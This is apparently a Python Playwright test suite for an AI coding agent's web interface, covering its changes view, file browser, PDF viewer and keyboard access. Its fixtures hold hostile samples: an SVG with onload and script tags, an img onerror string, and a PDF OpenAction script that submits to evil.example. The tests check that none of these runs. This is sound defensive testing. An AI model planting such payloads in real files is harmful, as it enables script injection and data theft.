"""Story 6: what the agent changed, and the files it changed it in, on desktop and phone."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.pages import PHONE, Desk, Tab
from tests.browser.test_access import barriers
from tests.rest import command, prompt, wait_for
from tests.unit.workspace.repo import Repo

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(120)]

CODE = "".join(f"value_{number} = {number}\n" for number in range(1, 61))
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf"
    "c000000301010018dd8db00000000049454e44ae426082"
)
HOSTILE = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.pwned = 1">
<script>top.pwned = 1; document.cookie = "pwned=1"</script><circle r="9" cx="20" cy="20"/></svg>"""

RUNS = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); top.pwned = 1; this.submitForm\\('https://evil.example'\\)) >>"
LINKS = "/Annots [ << /Subtype /Link /Rect [0 0 200 90] /A << /S /URI /URI (https://evil.example/) >> >> ]"
LOCKED = f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'ab' * 32}> /U <{'cd' * 32}> >> /ID [<00> <00>]"


def pdf(*texts: str, trailer: str = "") -> bytes:
    """A PDF with a text on each page; the first leads elsewhere, and opening it is to run a script."""
    pages = [3 + 2 * at for at in range(len(texts))]
    bodies = [f"<< /Type /Catalog /Pages 2 0 R {RUNS} >>"]
    bodies += [f"<< /Type /Pages /Kids [{' '.join(f'{at} 0 R' for at in pages)}] /Count {len(pages)} >>"]
    for at, text in zip(pages, texts, strict=True):
        drawn = f"0 0 1 rg 20 250 260 130 re f BT /F 20 Tf 20 200 Td ({text}) Tj ET"
        font = "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
        links = LINKS if at == pages[0] else ""
        bodies += [
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] {font} {links} /Contents {at + 1} 0 R >>",
            f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream",
        ]
    made, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(bodies, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(bodies) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\n"
    return made + f"{end}startxref\n{len(made)}\n%%EOF\n".encode()


COLOUR = (
    """canvas => [...canvas.getContext("2d").getImageData(canvas.width / 2, canvas.height / 5, 1, 1).data]"""
)
"""Of the blue box on every page."""


@pytest.fixture
def repo(desk: Desk) -> Repo:
    """The project's folder, with a commit."""
    repo = Repo(desk.server.root / "site")
    repo.write("src/app.py", CODE)
    repo.write("src/deep/inner.py", "inner = True\n")
    repo.write(".gitignore", "*.log\n")
    repo.commit()
    return repo


def do(desk: Desk, session: str, text: str) -> str:
    """The practice agent does it, and the person allows it; returns the turn, once it has ended."""
    turn = prompt(desk.api, session, text).raise_for_status().json()["turn"]
    asked = wait_for(desk.api, session, "approval-requested")
    option = next(each["id"] for each in asked["options"] if each["kind"] == "allow-once")
    answer = {"type": "answer", "session": session, "approval": asked["approval"], "option": option}
    command(desk.api, answer).raise_for_status()
    wait_for(desk.api, session, "turn-completed")
    return turn


def file(tab: Tab, path: str) -> Any:
    return tab.by("changed-file", path=path)


async def opens(tab: Tab, name: str) -> None:
    """Go to a side of the session."""
    await tab.by(f"tab-{name}").click()
    await expect(tab.by(f"tab-{name}")).to_have_attribute("aria-current", "page")


@pytest.mark.parametrize("viewport", [None, PHONE], ids=["desktop", "phone"])
async def test_what_changed(desk: Desk, repo: Repo, viewport: dict[str, int] | None) -> None:
    """It appears as the agent works; lines are commented on in the prompt; a turn's part is told apart."""
    context = await desk.new_context(**({"viewport": viewport, "has_touch": True} if viewport else {}))
    await context.add_cookies(desk.cookies())
    session = await asyncio.to_thread(desk.make_session)
    tab = await desk.session_tab(session, context=context)
    await opens(tab, "changes")
    await expect(tab.by("changes-none")).to_be_visible()

    repo.write("src/app.py", CODE.replace("value_30 = 30\n", "value_30 = 'thirty'\nnew_line = 1\n"))
    repo.write("data.bin", b"\0\1\2")
    turn = await asyncio.to_thread(do, desk, session, "write notes.md: by the agent")
    await expect(file(tab, "notes.md")).to_be_visible()
    await expect(tab.by("changes-count")).to_contain_text("3")
    await expect(tab.by("branch")).to_have_text("main")
    await expect(file(tab, "data.bin")).to_contain_text("binary")
    patch = file(tab, "src/app.py").get_by_test_id("patch")
    await expect(patch).to_contain_text("new_line = 1")
    await expect(patch.locator(".diff-code-insert")).to_have_count(2)
    assert not await tab.scrolls_sideways()

    await patch.locator(".diff-gutter-insert").last.click()
    await tab.by("comment").fill("Why not 30?")
    await tab.by("comment-add").click()
    await expect(tab.by("comment-box")).to_have_count(0)
    await opens(tab, "conversation")
    await expect(tab.composer).to_have_value("> `src/app.py:31`\n> + new_line = 1\n\nWhy not 30?\n")

    await tab.page.goto(f"{desk.server.url}/sessions/{session}/changes?turn={turn}")
    await expect(file(tab, "notes.md")).to_be_visible()
    await expect(tab.by("changed-file")).to_have_count(1)
    await tab.by("changes-since").select_option("")
    await expect(tab.by("changed-file")).to_have_count(3)
    assert tab.errors == []


async def test_a_comment_outlives_its_lines(desk: Desk, repo: Repo) -> None:
    """The agent takes the lines away while one writes about them: words and quote stay, and say so."""
    repo.write("src/app.py", CODE.replace("value_30 = 30\n", "value_30 = 30\nnew_line = 1\n"))
    tab = await desk.session_tab()
    await opens(tab, "changes")
    patch = file(tab, "src/app.py").get_by_test_id("patch")
    await patch.locator(".diff-gutter-insert").last.click()
    await tab.by("comment").fill("Why is this")
    repo.write("src/app.py", CODE.replace("value_30 = 30\n", "value_30 = 30\nother_line = 2\n"))
    await tab.by("changes-again").click()
    await expect(patch).to_contain_text("other_line = 2")
    await expect(tab.by("comment-moved")).to_contain_text("new_line = 1")
    await tab.by("comment").press("End")
    await tab.page.keyboard.type(" here?")
    assert await barriers(tab) == []
    await opens(tab, "conversation")
    await opens(tab, "changes")
    await expect(tab.by("comment")).to_have_value("Why is this here?")
    await tab.by("comment-add").click()
    await opens(tab, "conversation")
    await expect(tab.composer).to_have_value("> `src/app.py:31`\n> + new_line = 1\n\nWhy is this here?\n")


async def test_by_keyboard(desk: Desk, repo: Repo) -> None:
    """From file to file, from line to line, several lines at once, without a mouse; side by side where there is room."""
    for name in ("a", "b", "c"):
        repo.write(f"{name}.py", f"{name} = 1\n{name} = 2\n{name} = 3\n")
    tab = await desk.session_tab()
    await opens(tab, "changes")
    await expect(tab.by("changed-file")).to_have_count(3)
    await tab.page.keyboard.press("j")
    await tab.page.keyboard.press("j")
    focused = tab.page.locator(":focus")
    await expect(focused).to_have_attribute("data-testid", "changed-file-name")
    await expect(focused).to_contain_text("b.py")
    await tab.page.keyboard.press("Enter")
    await expect(file(tab, "b.py")).to_have_attribute("data-open", "false")
    await tab.page.keyboard.press("k")
    await expect(focused).to_contain_text("a.py")
    await expect(file(tab, "a.py").get_by_test_id("patch")).to_be_visible()
    await tab.page.keyboard.press("Tab")
    await tab.page.keyboard.press("Tab")
    await expect(focused).to_have_attribute("data-testid", "patch")
    for key in ("ArrowDown", "ArrowDown", "Shift+ArrowDown", "c"):
        await tab.page.keyboard.press(key)
    await expect(tab.by("comment")).to_be_focused()
    await tab.page.keyboard.type("Both")
    await tab.page.keyboard.press("Control+Enter")
    await expect(focused).to_have_attribute("data-testid", "patch")
    await opens(tab, "conversation")
    await expect(tab.composer).to_have_value("> `a.py:2-3`\n> + a = 2\n> + a = 3\n\nBoth\n")
    await opens(tab, "changes")
    repo.write("src/app.py", CODE.replace("value_9 ", "value_nine "))
    await tab.by("changes-again").click()
    await tab.by("view-split").click()
    await expect(file(tab, "src/app.py").locator(".diff-split")).to_be_visible()


async def test_where_there_is_nothing_to_compare(desk: Desk) -> None:
    """No git: it says so and leads to the files. No trust: nothing but the way to trust it. Reported edits stand in."""
    session = await asyncio.to_thread(desk.make_session)
    turn = await asyncio.to_thread(do, desk, session, "write notes.md: by the agent")
    tab = await desk.session_tab(session)
    await opens(tab, "changes")
    await expect(tab.by("no-git")).to_contain_text("git init")
    await expect(tab.by("changes-since")).to_be_visible()
    await tab.by("changes-since").select_option(turn)
    await expect(tab.by("reported").get_by_test_id("diff")).to_contain_text("by the agent")
    await tab.by("changes-since").select_option("")
    await tab.by("no-git").get_by_role("link").click()
    await expect(tab.by("tree-entry", path="notes.md")).to_be_visible()

    await asyncio.to_thread(desk.make_project, "wary", trust=False)
    (desk.server.root / "wary/secret.txt").write_text("secret")
    wary = await asyncio.to_thread(desk.make_session, project="wary")
    for side in ("changes", "files"):
        other = await desk.tab(f"sessions/{wary}/{side}")
        await expect(other.by("trust-review")).to_be_visible()
        await expect(other.by("tree-entry")).to_have_count(0)


@pytest.mark.parametrize("viewport", [None, PHONE], ids=["desktop", "phone"])
async def test_files(desk: Desk, repo: Repo, viewport: dict[str, int] | None) -> None:
    """The tree, a file with a line's address, what is ignored, pictures, what is no text; it refreshes by itself."""
    repo.write("noise.log", "x")
    repo.write("dot.png", PIXEL)
    repo.write("data.bin", b"\0\1\2")
    repo.write("long.txt", "".join(f"row {number}\n" for number in range(1, 40_001)))
    (repo.top / "way-out").symlink_to("/etc")
    context = await desk.new_context(**({"viewport": viewport} if viewport else {}))
    await context.add_cookies(desk.cookies())
    session = await asyncio.to_thread(desk.make_session)
    tab = await desk.session_tab(session, context=context)
    await opens(tab, "files")
    await expect(tab.by("tree-entry", path="noise.log")).to_have_attribute("data-ignored", "true")
    await expect(tab.by("tree-entry", path="way-out")).to_have_attribute("data-kind", "link")
    await expect(tab.by("tree-entry", path=".git")).to_have_count(0)
    await tab.by("tree-entry", path="src").click()
    await tab.by("tree-entry", path="src/app.py").click()
    await expect(tab.by("file-text")).to_contain_text("value_60 = 60")
    await expect(tab.by("file-text").locator(".tok-constant").first).to_be_visible()
    await tab.by("file-text").locator('[data-number="7"]').click()
    assert tab.page.url.endswith(f"/sessions/{session}/files/src/app.py#L7")
    await tab.by("file-mention").click()
    repo.write("src/app.py", "fresh = 1\n")
    await asyncio.to_thread(do, desk, session, "write src/made.py: made")
    await expect(tab.by("file-text")).to_contain_text("fresh = 1")

    for name, seen in (("dot.png", "file-picture"), ("data.bin", "file-binary")):
        await tab.page.goto(f"{desk.server.url}/sessions/{session}/files/{name}")
        await expect(tab.by(seen)).to_be_visible()
    await tab.page.goto(f"{desk.server.url}/sessions/{session}/files/long.txt#L39000")
    await expect(tab.by("file-text").locator('[data-line="39000"]')).to_be_in_viewport()
    await tab.reload()
    await expect(tab.by("file-text").locator('[data-chosen="true"]')).to_have_text("39000row 39000")
    assert not await tab.scrolls_sideways()
    if viewport:
        await tab.by("files-back").click()
    await expect(tab.by("tree-entry", path="long.txt")).to_be_visible()
    await opens(tab, "conversation")
    await expect(tab.composer).to_have_value("> `src/app.py:7`\n> value_7 = 7\n")
    assert tab.errors == []


@pytest.mark.parametrize("viewport", [None, PHONE], ids=["desktop", "phone"])
async def test_pdf(desk: Desk, repo: Repo, viewport: dict[str, int] | None) -> None:
    """Its pages are drawn in their place, as they come near; nothing in it runs; where that cannot be, words say so."""
    repo.write("two.pdf", pdf("The first page", "The second page"))
    repo.write("long.pdf", pdf(*(f"Page number {number}" for number in range(1, 41))))
    repo.write("broken.pdf", pdf("It is cut off")[:200])
    repo.write("locked.pdf", pdf("It is locked", trailer=LOCKED))
    context = await desk.new_context(**({"viewport": viewport} if viewport else {}))
    await context.add_cookies(desk.cookies())
    tab = await desk.session_tab(context=context)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    place = f"{tab.page.url}/files"
    await tab.page.goto(f"{place}/two.pdf")
    for number, text in (("1", "The first page"), ("2", "The second page")):
        sheet = tab.by("pdf-sheet", page=number)
        await expect(sheet).to_have_text(text)
        await sheet.scroll_into_view_if_needed()
        assert await sheet.locator("canvas").evaluate(COLOUR) == [0, 0, 255, 255]
    await tab.by("file-pdf").press("End")
    await expect(tab.by("pdf-page")).to_have_text("Page 2 of 2")
    link = tab.by("pdf-sheet", page="1").get_by_role("link")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")
    narrow = await sheet.evaluate("sheet => sheet.clientWidth")
    await tab.by("pdf-larger").click()
    await expect(tab.by("pdf-zoom")).to_have_text("125%")
    await tab.page.wait_for_function(
        """narrow => document.querySelector('[data-testid="pdf-sheet"] canvas').width >= 1.24 * narrow""",
        arg=narrow,
    )
    assert not await tab.scrolls_sideways()
    repo.write("two.pdf", pdf("It was written anew"))
    await asyncio.to_thread(
        do, desk, tab.page.url.split("/sessions/")[1].split("/")[0], "write notes.md: by the agent"
    )
    await expect(tab.by("pdf-sheet", page="1")).to_have_text("It was written anew")
    await expect(tab.by("pdf-sheet")).to_have_count(1)

    await tab.page.goto(f"{place}/long.pdf")
    await expect(tab.by("pdf-sheet", page="1")).to_have_text("Page number 1")
    assert await tab.by("pdf-sheet").count() < 10
    await tab.by("file-pdf").press("End")
    await expect(tab.by("pdf-sheet", page="40")).to_have_text("Page number 40")
    await expect(tab.by("pdf-sheet", page="1")).to_have_count(0)
    for name, said in (("broken", "cannot be read"), ("locked", "locked by a password")):
        await tab.page.goto(f"{place}/{name}.pdf")
        await expect(tab.by("pdf-problem")).to_contain_text(said)
        for link in ("file-download", "file-open"):
            await expect(tab.by("pdf-problem").get_by_test_id(link)).to_be_visible()
    assert await tab.page.evaluate("window.pwned") is None
    assert not [url for url in asked if desk.foreign(url)]
    assert tab.errors == []


async def test_the_tree_by_keyboard(desk: Desk, repo: Repo) -> None:
    """As trees are used everywhere: arrows open, close and move."""
    tab = await desk.session_tab()
    await opens(tab, "files")
    await tab.by("tree-entry", path="src").focus()
    for folder, below in (("src", "src/deep"), ("src/deep", "src/deep/inner.py")):
        await expect(tab.page.locator(":focus")).to_have_attribute("data-path", folder)
        await tab.page.keyboard.press("ArrowRight")
        await expect(tab.by("tree-entry", path=below)).to_be_visible()
        await tab.page.keyboard.press("ArrowDown")
    await expect(tab.page.locator(":focus")).to_have_attribute("data-path", "src/deep/inner.py")
    await tab.page.keyboard.press("Enter")
    await expect(tab.by("file", path="src/deep/inner.py")).to_contain_text("inner = True")
    await tab.by("tree-entry", path="src/deep/inner.py").focus()
    await tab.page.keyboard.press("ArrowLeft")
    await tab.page.keyboard.press("ArrowLeft")
    await expect(tab.by("tree-entry", path="src/deep/inner.py")).to_have_count(0)


async def test_a_file_by_keyboard(desk: Desk, repo: Repo) -> None:
    """Arrows go from line to line and take more, Enter or C chooses as a click does; axe has no complaint."""
    tab = await desk.session_tab()
    await tab.page.goto(f"{tab.page.url}/files/src/app.py")
    text, keys = tab.by("file-text"), tab.page.keyboard
    await expect(text).to_contain_text("value_60 = 60")
    await text.focus()
    for key in ("ArrowDown", "ArrowDown", "ArrowDown", "ArrowUp"):
        await keys.press(key)
    marked = text.locator("[data-marked]")
    await expect(marked).to_have_text(["2value_2 = 2"])
    await expect(text.locator("[aria-live]")).to_have_text("Line 2: value_2 = 2")
    assert "#" not in tab.page.url
    await keys.press("Enter")
    assert tab.page.url.endswith("/files/src/app.py#L2")
    await expect(text.locator("[aria-live]")).to_have_text("Chosen: Line 2")
    for key in ("Shift+ArrowDown", "Shift+ArrowDown"):
        await keys.press(key)
    await expect(marked).to_have_count(3)
    assert await barriers(tab) == []
    await keys.press("c")
    assert tab.page.url.endswith("/files/src/app.py#L2-L4")
    await expect(text.locator("[data-chosen]")).to_have_count(3)
    await expect(tab.by("file-mention")).to_have_attribute("aria-label", "Quote 2-4 in the prompt")
    for _ in range(50):
        await keys.press("ArrowDown")
    await expect(text.locator('[data-line="54"]')).to_be_in_viewport()
    await keys.press("Escape")
    await expect(marked).to_have_count(0)
    await text.locator('[data-number="53"]').click()
    await keys.press("ArrowDown")
    await expect(marked).to_have_text(["54value_54 = 54"])


async def test_a_line_is_a_target_for_a_finger(desk: Desk, repo: Repo) -> None:
    """On a touch screen a line's number is 24 px high at least, also that of an empty line."""
    repo.write("gaps.txt", "one\n\nthree\n")
    context = await desk.new_context(viewport=PHONE, has_touch=True, is_mobile=True)
    await context.add_cookies(desk.cookies())
    tab = await desk.session_tab(context=context)
    await tab.page.goto(f"{tab.page.url}/files/gaps.txt")
    numbers = tab.by("file-text").locator("[data-number]")
    await expect(numbers).to_have_count(3)
    sizes = [await number.bounding_box() for number in await numbers.all()]
    assert all(size and size["height"] >= 24 and size["width"] >= 24 for size in sizes)
    await numbers.nth(1).tap()
    assert tab.page.url.endswith("#L2")


async def test_the_palette_leads_to_all_of_it(desk: Desk, repo: Repo) -> None:
    """Changes, files, what waits, the trash and the rules by their names; the list of keys has those of reading."""
    tab = await desk.session_tab()
    await tab.is_live()

    async def runs(typed: str, wanted: str) -> None:
        await tab.page.keyboard.press("Control+k")
        await tab.by("palette-input").fill(typed)
        await expect(tab.by("palette-command").first).to_have_attribute("data-command", wanted)
        await tab.page.keyboard.press("Enter")

    for tab_name in ("changes", "files", "conversation"):
        await runs(tab_name, f"go-{tab_name}")
        await expect(tab.by(f"tab-{tab_name}")).to_have_attribute("aria-current", "page")
    for typed, wanted, shown in (
        ("waits", "waiting", "waiting-panel"),
        ("trash", "trash", "trash-dialog"),
        ("rules", "rules", "rules-dialog"),
        ("allowed", "rules", "rules-dialog"),
        ("keys", "keys", "keys-dialog"),
    ):
        await runs(typed, wanted)
        await expect(tab.by(shown)).to_be_visible()
        if shown == "keys-dialog":
            await expect(tab.by(shown)).to_contain_text("Changes and files")
            assert await barriers(tab) == []
        await tab.page.keyboard.press("Escape")
        await expect(tab.by(shown)).to_have_count(0)
    assert tab.errors == []


async def test_nothing_of_a_project_runs(make_desk: Callable[..., Any], desk: Desk, repo: Repo) -> None:
    """A picture with a script is drawn without it; opened by itself it is nobody: no script, no cookie, no request."""
    repo.write("evil.svg", HOSTILE)
    repo.write("page.html", b"<!doctype html><script>top.pwned = 1</script>")
    repo.write("evil.py", b"x = '<img src=x onerror=\"top.pwned = 1\">'\n")
    tab = await desk.session_tab()
    page = tab.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for name, seen in (("evil.svg", "file-picture"), ("page.html", "file-text"), ("evil.py", "file-text")):
        await page.goto(f"{page.url.split('/files')[0]}/files/{name}")
        await expect(tab.by(seen)).to_be_visible()
        assert await page.evaluate("window.pwned") is None
    await opens(tab, "changes")
    await expect(tab.by("patch").filter(has_text="onerror").first).to_be_visible()
    assert await page.evaluate("window.pwned") is None
    project = desk.api.get("/api/projects").json()["projects"][0]["id"]
    await page.goto(f"{desk.server.url}/api/projects/{project}/files/raw?path=evil.svg")
    assert await page.evaluate("[window.pwned, window.origin]") == [None, "null"]
    assert not [url for url in asked if desk.foreign(url)]
    cookies = await tab.page.context.cookies()
    assert "pwned" not in {cookie["name"] for cookie in cookies}
